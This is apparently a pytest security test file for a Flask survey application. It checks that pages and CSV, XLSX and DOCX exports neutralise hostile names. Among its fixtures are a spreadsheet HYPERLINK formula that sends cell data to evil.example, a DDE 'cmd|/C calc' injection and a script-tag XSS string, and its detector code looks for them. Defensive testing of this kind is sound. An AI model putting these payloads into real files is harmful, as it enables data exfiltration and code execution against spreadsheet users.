"""Whatever somebody is called or writes: no page runs it, and no spreadsheet does in any file."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from survey_app.app import create_app
from survey_app.conduct.scoring import publish
from survey_app.fieldwork import csv_out
from survey_app.questionnaire import library
from survey_app.store import jobs, scorecards, tables
from survey_app.store.engine.database import Database
from survey_app.web import House
from tests.attack.conftest import PASSWORD, SIGN_IN
from tests.builders import write_study
from tests.office.handing_in import upload
from tests.office.scored import AT, answered, house_at
from tests.support.accounts import EVERYTHING, add_account

RUNS = '=HYPERLINK("http://evil.example/"&A1,"Sở Nội vụ")'
"""What a spreadsheet that believes it sends to a stranger."""
SCRIPT = "<script>alert(1)</script>"
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
NAMES = {
    "units": [
        ("Sở Nội vụ", f"'{RUNS}'"),
        ("Department of Home Affairs", f"'{SCRIPT}'"),
        ("Sở Tư pháp", f"'{SCRIPT}'"),
        ("Department of Justice", f"'{RUNS}'"),
    ],
    "index": [
        ("Chỉ số thử nghiệm", f'"{AT_SIGN}"'),
        ("Trial index", f"'{SCRIPT}'"),
        ("Người dân", f"'{RUNS}'"),
        ("    vi: Công tác chỉ đạo, điều hành", f"    vi: '{SCRIPT}'"),
        ("      en: Direction of the reform", f"      en: '{RUNS}'"),
        ("          vi: Kế hoạch cải cách hành chính", f"          vi: '{RUNS}'"),
    ],
}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Flask, House, FlaskClient]]:
    """A published wave in which everybody is called like an attack, and somebody of the office."""
    folder: Path = tmp_path_factory.mktemp("named")
    database = Database(f"sqlite:///{folder / 'a.sqlite3'}")
    tables.metadata.create_all(database.engine)
    house = house_at(database, folder)
    wave = answered(house, library.study(write_study(folder / "s", **NAMES), folder / "s"), each=8)
    card = publish.score(house, wave, RUNS[:60], merge=True)
    with database.writing() as connection:
        scorecards.publish(connection, card.id, AT, SCRIPT)
        for name in ("lan", RUNS[:60]):
            add_account(connection, name, PASSWORD, AT, EVERYTHING)
    app = create_app(house.settings, house=house)
    app.config.update(WTF_CSRF_ENABLED=False)
    client = app.test_client()
    client.post(SIGN_IN, data={"name": RUNS[:60], "password": PASSWORD})
    yield app, house, client
    database.close()


PARTS = {
    "wave": "dot-2026", "name": "dot-2026", "number": "1", "version": "1", "unit": "SNV",
    "criterion": "1.2.1", "field": "1", "group": "citizens", "label": "citizens-SNV-1",
    "kind": "csv", "file": "ket-qua-excel.csv", "key": "leadership", "theme": "1",
}  # fmt: skip
SIGNED_OUT = frozenset({"office.sign_out", "office.accounts_end_sessions"})


def addresses(app: Flask) -> Iterator[str]:
    """Every page and file of the office and of the public, in each kind that its address names."""
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()) or not rule.endpoint.startswith(
            ("office.", "public.")
        ):
            continue
        kinds: list[dict[str, str]] = [{}]
        for name, converter in rule._converters.items():
            words = getattr(converter, "items", None) or [PARTS.get(name, "1")]
            kinds = [{**each, name: word} for each in kinds for word in sorted(words)]
        for parts in kinds:
            with app.test_request_context():
                built = rule.build(parts)
            assert built is not None
            yield built[1]
    files = ("ket-qua.csv", "ket-qua.xlsx", "bao-cao.docx", "tom-tat.docx")
    yield from (f"/ket-qua/dot-2026/{file}" for file in files)
    yield from (f"/quan-tri/dot/dot-2026/ket-qua/1/tai-ve/{kind}" for kind in ("xlsx", "csv-excel"))


def test_no_page_and_no_file_runs_what_somebody_is_called(shop):
    app, _, client = shop
    seen, failed = set(), []
    for address in addresses(app):
        for language in ("vi", "en"):
            reply = client.get(f"{address}?lang={language}")
            if reply.status_code == 200:
                seen.add(reply.mimetype)
                failed += [f"{address} ({language}): {why}" for why in faults(reply)]
    assert failed == []
    assert {"text/html", "text/csv", "image/svg+xml", XLSX} <= seen


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def faults(reply: TestResponse) -> Iterator[str]:
    """What is wrong with a reply: what it would run, or what a browser might take it for."""
    headers = reply.headers
    if headers["X-Content-Type-Options"] != "nosniff" or "'none'" not in headers[POLICY]:
        yield "a browser is not told what it may do"
    if reply.mimetype in {"text/html", "image/svg+xml", "application/xml", "application/atom+xml"}:
        if SCRIPT.encode() in reply.data:
            yield "a script"
        return
    if reply.mimetype.startswith(("text/csv", "application/")) and "json" not in reply.mimetype:
        if not headers.get("Content-Disposition", "").startswith("attachment"):
            yield "no attachment" if reply.mimetype != "application/pdf" else "shown in the site"
        yield from of_file(headers.get("Content-Disposition", "x.bin"), reply.data)


POLICY = "Content-Security-Policy"


def of_file(name: str, content: bytes) -> Iterator[str]:
    """What a program would run, or ask of a stranger, in a file or in one that is packed in it."""
    ending = name.rstrip('"').rpartition(".")[2]
    if ending == "csv":
        text = content.decode("utf-8-sig").removeprefix("sep=;\n")
        rows = csv.reader(io.StringIO(text), delimiter=";" if "excel" in name else ",")
        runs = {cell for row in rows for cell in row if csv_out.runs(cell)}
        yield from (f"{name} runs {cell!r}" for cell in sorted(runs))
    elif ending == "xlsx":
        yield from _of_workbook(name, content)
    elif ending in {"zip", "docx"}:
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            for part in packed.namelist():
                yield from of_file(part, packed.read(part))
    elif ending == "rels" and b"evil.example" in content:
        yield f"{name} leads out"
    elif ending == "xml":
        ET.fromstring(content)


def _of_workbook(name: str, content: bytes) -> Iterator[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
        if cell.data_type == "f" and ("evil" in str(cell.value) or "cmd" in str(cell.value)):
            yield f"{name} runs {cell.value}"
        if cell.hyperlink:
            yield f"{name} leads to {cell.hyperlink.target}"


@pytest.mark.parametrize("path", ["bo-du-lieu", "du-lieu-mo"])
def test_no_table_in_an_archive_runs_what_somebody_is_called(shop, path):
    _, house, client = shop
    assert client.post(f"/quan-tri/dot/dot-2026/{path}").status_code == 302
    with house.database.reading() as connection:
        job = jobs.last(connection)[0]
    reply = client.get(f"/quan-tri/cong-viec/{job.id}/tep")
    assert reply.status_code == 200
    assert list(of_file("x.zip", reply.data)) == []


def test_a_copy_of_a_list_with_its_faults_runs_nothing_that_stood_in_it(shop):
    _, house, client = shop
    with house.database.writing() as connection:
        connection.exec_driver_sql("UPDATE waves SET opened_at = NULL, closed_at = NULL")
    name = RUNS.replace('"', '""')
    rows = f'case,group,unit,stratum,weight,name\n{AT_SIGN},citizens,SNV,1,x,"{name}"\n'
    reply = upload(client, "sample", rows.encode(), wave="dot-2026")
    assert reply.status_code == 422
    with house.database.reading() as connection:
        job = jobs.last(connection)[0]
    copy = client.get(f"/quan-tri/cong-viec/{job.id}/ban-danh-dau")
    assert copy.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(copy.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert RUNS in {cell.value for cell in cells}
